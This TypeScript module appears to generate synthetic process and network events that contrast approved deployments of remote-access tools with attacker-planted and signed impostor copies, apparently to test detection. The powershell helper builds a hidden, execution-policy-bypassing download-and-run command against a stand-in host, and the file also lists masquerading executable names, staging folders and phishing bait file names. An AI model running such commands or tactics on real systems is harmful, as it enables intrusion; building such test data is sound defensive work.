import type { RemoteToolFact } from "../facts/remoteTools.ts";
import type { Device } from "../model/device.ts";
import type { FileFact } from "../model/file.ts";
import type { ProcessFact } from "../model/process.ts";
import { pick } from "../random.ts";
import { agentFile, impostorFile, relayOf } from "./agents.ts";
import { after, type PlanContext } from "./context.ts";
import type { Plant } from "./plant.ts";
import { openScript, type Run, type Script } from "./script.ts";
import type { Visits } from "./visits.ts";

export interface Cast {
  readonly tool: RemoteToolFact;
  readonly signer: string | undefined;
  readonly device: Device;
  readonly visits: Visits;
  /** Ticks at which the certificate alone is checked again. */
  readonly checks?: readonly number[];
}

/** IT rolls the agent out as a service, from an installer package. */
export function playApproved(context: PlanContext, cast: Cast): void {
  const { tool, signer, device, visits } = cast;
  const file = agentFile(context, tool, { folder: approvedFolder(tool), signer });
  const plant: Plant = { class: "approved", tool: tool.tool, device, file, createdBy: "msiexec.exe", renamed: false };
  const script = openScript(context, device, plant);
  const { services } = context.residents(device);
  const installer: Run = {
    file: context.system("msiexec.exe"),
    commandLine: "C:\\Windows\\system32\\msiexec.exe /V",
    account: "system",
  };
  script.create(after(context, visits.install, 4), file, script.start(visits.install, installer, services));
  const run: Run = { file, commandLine: `"${file.path}" service`, account: "system" };
  playVisits(context, script, visits, { run, by: services, host: relayOf(tool) });
  for (const tick of cast.checks ?? []) script.certify(tick, file);
}

const lairs = [
  "C:\\Users\\Public\\Music",
  "C:\\ProgramData\\Intel\\Cache",
  "C:\\Windows\\Temp\\7f3a",
  "C:\\PerfLogs",
  "C:\\Users\\Public\\Libraries",
];
const borrowedNames = ["svchost32.exe", "winlogin.exe", "msedge_update.exe", "jusched32.exe", "RuntimeBrokerSvc.exe"];

/** An intruder brings the genuine agent along and runs it as the user, often under a borrowed name. */
export function playAttacker(context: PlanContext, cast: Cast & { readonly renamed: boolean }): void {
  const { tool, signer, device, visits, renamed } = cast;
  const name = renamed ? pick(context.random, borrowedNames) : tool.file;
  const file = agentFile(context, tool, { folder: pick(context.random, lairs), name, signer });
  const plant: Plant = { class: "attacker", tool: tool.tool, device, file, createdBy: "powershell.exe", renamed };
  const script = openScript(context, device, plant);
  const { explorer } = context.residents(device);
  const lure = script.start(
    visits.install,
    {
      file: context.system("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16"),
      commandLine: `"WINWORD.EXE" /n "C:\\Users\\Public\\Downloads\\delivery-note-${context.random.below(9000)}.docm" /o ""`,
      account: "user",
    },
    explorer,
  );
  const loader = script.start(after(context, visits.install, 6), powershell(context, file), lure);
  script.create(after(context, visits.install, 9), file, loader);
  const run: Run = { file, commandLine: `"${file.path}" -silent`, account: "user" };
  playVisits(context, script, visits, { run, by: loader, host: relayOf(tool) });
}

const baits: readonly string[] = [
  "Invoice_2026.pdf.exe",
  "winupdate_patch.exe",
  "AcroRd32Helper.exe",
  "ChromeSetup_x64.exe",
];

/** A file that has nothing of the tool but the vendor's signature. */
export function playSignedMalicious(context: PlanContext, cast: Cast & { readonly signer: string }): void {
  const { tool, signer, device, visits } = cast;
  const { random } = context;
  const file = impostorFile(context, {
    folder: "C:\\Users\\Public\\Downloads",
    name: pick(random, baits),
    signer,
    trusted: random.below(3) > 0,
    claims: { company: "Adobe Systems Incorporated", product: "Adobe Acrobat Update" },
  });
  playImpostor(context, { class: "signed-malicious", tool, device, visits, file });
}

export interface ImpostorCast {
  readonly class: "signed-malicious" | "near-miss";
  readonly tool: RemoteToolFact;
  readonly device: Device;
  readonly visits: Visits;
  readonly file: FileFact;
}

/** A person opens what came by mail. */
export function playImpostor(context: PlanContext, cast: ImpostorCast): void {
  const { tool, device, visits, file } = cast;
  const plant: Plant = { class: cast.class, tool: tool.tool, device, file, createdBy: "OUTLOOK.EXE", renamed: false };
  const script = openScript(context, device, plant);
  const { explorer } = context.residents(device);
  const mail = script.start(
    visits.install,
    {
      file: context.system("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16"),
      commandLine: '"OUTLOOK.EXE"',
      account: "user",
    },
    explorer,
  );
  script.create(after(context, visits.install, 3), file, mail);
  const host =
    cast.class === "near-miss" ? "updates.example.com" : `files-${context.random.below(90)}.transfer.example.net`;
  playVisits(context, script, visits, {
    run: { file, commandLine: `"${file.path}"`, account: "user" },
    by: explorer,
    host,
  });
}

interface Appearance {
  readonly run: Run;
  readonly by: ProcessFact;
  readonly host: string;
}

/** The file is seen soon after it came, then at each later visit: started, loaded, checked, and on the network. */
function playVisits(context: PlanContext, script: Script, visits: Visits, appearance: Appearance): void {
  const { run, by, host } = appearance;
  for (const tick of [after(context, visits.install, 30), ...visits.later]) {
    const process = script.start(tick, run, by);
    script.load(after(context, tick, 1), run.file, process);
    script.certify(after(context, tick, 3), run.file);
    script.connect(after(context, tick, 5), process, { host });
  }
}

function approvedFolder(tool: RemoteToolFact): string {
  return tool.tool === "Action1" ? "C:\\Windows\\Action1" : `C:\\Program Files\\${tool.tool.replace(/\W/g, " ")}`;
}

function powershell(context: PlanContext, file: FileFact): Run {
  const url = `https://cdn-${context.random.below(900)}.example.net/${file.sha1.slice(0, 8)}.bin`;
  return {
    file: context.system("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"),
    commandLine: `powershell.exe -nop -w hidden -ep bypass -c "iwr ${url} -OutFile '${file.path}'; & '${file.path}'"`,
    account: "user",
  };
}
